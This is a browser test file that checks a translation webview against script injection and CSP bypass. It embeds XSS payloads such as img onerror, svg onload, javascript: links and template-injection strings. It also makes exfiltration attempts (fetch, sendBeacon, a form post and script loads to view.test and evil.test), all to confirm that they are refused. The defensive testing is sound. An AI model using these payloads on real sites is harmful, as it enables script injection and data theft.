/** Whatever a document holds is text: it shows, and nothing of it runs, hides or breaks the page. */
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { drawings } from '../../webview/state';
import { contentOf, manyWords, sentenceOf } from './contents';
import { content as summary } from '../webview/summary';
import { launchBrowser, ViewPage } from './page';

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(() => browser.close());

const hostile = sentenceOf({
  source: ['<img src=x onerror=alert(1)>', '"><script>alert(2)</script>', '\u202Eevil\u202C', 'שלום', 'عربي', '\u200B', 'x'.repeat(300), '🏳️‍🌈', '.'],
  target: ['<svg/onload=alert(3)>', '${alert(7)}', '<%= alert(8) %>', '\u2067\u202Eexe.cod\u202C\u2069', '&lt;b&gt;', '中文', '\u2060\u200D', 'مرحبا', '{{7*7}}', 'javascript:alert(4)', '\uFFFF', '。'],
  confidence: () => 0.1,
});

test.each(drawings)('markup and strange characters in %s', async (drawing) => {
  const view = await ViewPage.open(browser, { stored: { drawing } });
  await view.page.exposeFunction('alert', () => view.problems.push('a script ran'));
  const content = { ...contentOf([hostile, hostile], ['en" onclick="alert(5)', 'zh']), title: '<img src=x onerror=alert(6)>' };
  await view.post({ kind: 'showTranslation', content });
  await view.post({ kind: 'followCursor', sentence: 0, offset: 0 });
  await view.page.waitForTimeout(100);
  await view.screenshot(`hostile-${drawing}`);
  expect(await view.page.locator('img, script:not([src]), iframe, [onclick], [onerror]').count()).toBe(0);
  expect(await view.page.locator('#readout').textContent()).toContain('<img src=x onerror=alert(1)>: <svg/onload=alert(3)>');
  expect(await view.page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(900);
  expect(await view.accessibilityProblems()).toEqual([]);
  expect(view.problems).toEqual([]);
  await view.close();
});

test('markup in a summary, its headings and its notes', async () => {
  const view = await ViewPage.open(browser);
  await view.page.exposeFunction('alert', () => view.problems.push('a script ran'));
  const attack = '<img src=http://evil.test/x onerror=alert(1)><a href="javascript:alert(2)">x</a>{{alert(3)}}';
  const entries = summary.entries.map((entry) => ({
    ...entry,
    heading: attack,
    lines: entry.lines.map((line) => ({ ...line, note: attack, translation: attack })),
  }));
  await view.post({ kind: 'showSummary', content: { ...summary, title: attack, pack: attack, entries } });
  await view.page.waitForTimeout(100);
  await view.screenshot('hostile-summary');
  expect(await view.page.locator('img, a, script:not([src]), [onerror]').count()).toBe(0);
  expect(await view.page.locator('body').innerText()).toContain(attack);
  expect(view.problems).toEqual([]);
  await view.close();
});

test('translations of the view\'s own words are text too', async () => {
  const attack = '<img src=x onerror=alert(1)>';
  const view = await ViewPage.open(browser, { messages: { Alignment: attack, Explain: attack, Copy: attack } });
  await view.page.exposeFunction('alert', () => view.problems.push('a script ran'));
  await view.post({ kind: 'showTranslation', content: contentOf([hostile]) });
  expect(await view.page.locator('button', { hasText: attack }).count()).toBeGreaterThan(0);
  expect(await view.page.locator('img').count()).toBe(0);
  expect(view.problems).toEqual([]);
  await view.close();
});

/** What a text would have to do to be more than a text, and the directive that refuses it. Each runs in the page. */
const attempts: Readonly<Record<string, readonly [directive: string, attempt: () => unknown]>> = {
  'a request': ['connect-src', () => fetch('http://view.test/stolen').catch(() => undefined)],
  'a beacon': ['connect-src', () => navigator.sendBeacon('http://view.test/stolen')],
  'a picture from elsewhere': ['img-src', () => void (new Image().src = 'http://view.test/stolen.png')],
  'a picture within an address': ['img-src', () => void (new Image().src = 'data:image/svg+xml,<svg/>')],
  markup: ['require-trusted-types-for', () => void (document.body.innerHTML = '<p>all that is left</p>')],
  // eslint-disable-next-line @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call -- what is tried is what is forbidden
  'code in a text': ['require-trusted-types-for', () => new Function('document.title = "ran"')() as unknown],
  'an event handler': ['require-trusted-types-for', () => appendElement('button', { onclick: 'document.title = "ran"' })],
  'a script': ['require-trusted-types-for', () => appendElement('script', { src: 'http://view.test/stolen.js' })],
  'a policy that makes markup of texts': ['trusted-types', () => makePolicy()],
  'a link of code': ['script-src-elem', () => followLink('javascript:document.title = "ran"')],
  'a style': ['style-src-attr', () => appendElement('p', { style: 'position: fixed; inset: 0' })],
  'a sheet': ['style-src-elem', () => appendElement('style', {}, 'body { display: none }')],
  'a page within': ['frame-src', () => appendElement('iframe', { src: 'http://view.test/stolen.html' })],
  'another base for addresses': ['base-uri', () => appendElement('base', { href: 'http://evil.test/' })],
};
/** The browser then shows that it sent nothing, in place of the page. */
const sendForm = (): void => submitForm();

test('what is more than a text is refused, and the policy says so', async () => {
  const view = await ViewPage.open(browser);
  await view.post({ kind: 'showTranslation', content: contentOf([hostile]) });
  await view.page.evaluate([makePolicy, appendElement, submitForm, followLink].map((made) => `globalThis.${made.name} = ${String(made)};`).join('\n'));
  const refused: Record<string, string | undefined> = {};
  const tryOut = async (attempt: () => unknown): Promise<string | undefined> => {
    const known = view.problems.length;
    // In a task of the page's own: what the debugger evaluates may do more.
    await view.page.evaluate(`setTimeout(${String(attempt)})`);
    const newest = (): string | undefined => view.problems.slice(known).find((problem) => problem.startsWith('refused: '));
    await expect.poll(newest, { timeout: 10_000 }).toBeDefined();
    return newest()?.split(' ')[1];
  };
  for (const [what, [, attempt]] of Object.entries(attempts)) refused[what] = await tryOut(attempt);
  expect(refused).toEqual(Object.fromEntries(Object.entries(attempts).map(([what, [directive]]) => [what, directive])));
  expect(await view.page.title()).toBe('Alignment');
  expect(await view.page.locator('.drawing').isVisible()).toBe(true);
  expect(await tryOut(sendForm)).toBe('form-action');
  expect(view.problems.filter((problem) => problem.startsWith('the page asked for'))).toEqual([]);
  await view.close();
});

test('a message that is none of ours changes nothing', async () => {
  const view = await ViewPage.open(browser);
  await view.post({ kind: 'showTranslation', content: contentOf([hostile]) });
  const before = await view.page.locator('body').innerText();
  const messages: unknown[] = [null, 'showTranslation', { kind: 'constructor' }, { kind: '__proto__' }, { kind: 'showTranslation', content: {} }, { kind: 'followCursor', sentence: -1, offset: 0 }];
  for (const message of messages) await view.page.evaluate((posted) => window.postMessage(posted, '*'), message);
  await view.page.waitForTimeout(100);
  expect(await view.page.locator('body').innerText()).toBe(before);
  await view.close();
});

test('words with nothing to see can be seen and pointed at', async () => {
  const view = await ViewPage.open(browser, { stored: { drawing: 'reading' } });
  await view.post({ kind: 'showTranslation', content: contentOf([hostile]) });
  const word = view.page.locator('.word.source[data-index="5"]');
  expect(await word.textContent()).toBe('U+200B');
  await word.hover();
  expect(await view.page.locator('#readout').textContent()).toMatch(/^U\+200B: /u);
  await view.close();
});

test.each(drawings)('ten thousand words in %s', async (drawing) => {
  const view = await ViewPage.open(browser, { stored: { drawing } });
  const endless = sentenceOf({ source: manyWords(10_000), target: manyWords(50, '词') });
  const start = Date.now();
  await view.post({ kind: 'showTranslation', content: contentOf([endless]) });
  await view.post({ kind: 'followCursor', sentence: 0, offset: endless.sourceTokens[9900]!.start });
  expect(await view.page.locator('#readout').textContent()).toMatch(/^word9900: 词49 82 %/u);
  expect(Date.now() - start).toBeLessThan(20_000);
  await view.screenshot(`endless-${drawing}`);
  expect(view.problems).toEqual([]);
  await view.close();
});

// These run in the page.

function makePolicy(): void {
  const { trustedTypes } = globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } };
  trustedTypes.createPolicy('mine', { createHTML: (text: string) => text });
}

function appendElement(tag: string, attributes: Readonly<Record<string, string>>, text = ''): void {
  const made = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
  made.textContent = text;
  document.body.append(made);
}

function submitForm(): void {
  const form = document.createElement('form');
  form.action = 'http://evil.test/';
  document.body.append(form);
  form.submit();
}

function followLink(href: string): void {
  const link = document.createElement('a');
  link.href = href;
  document.body.append(link);
  link.click();
}
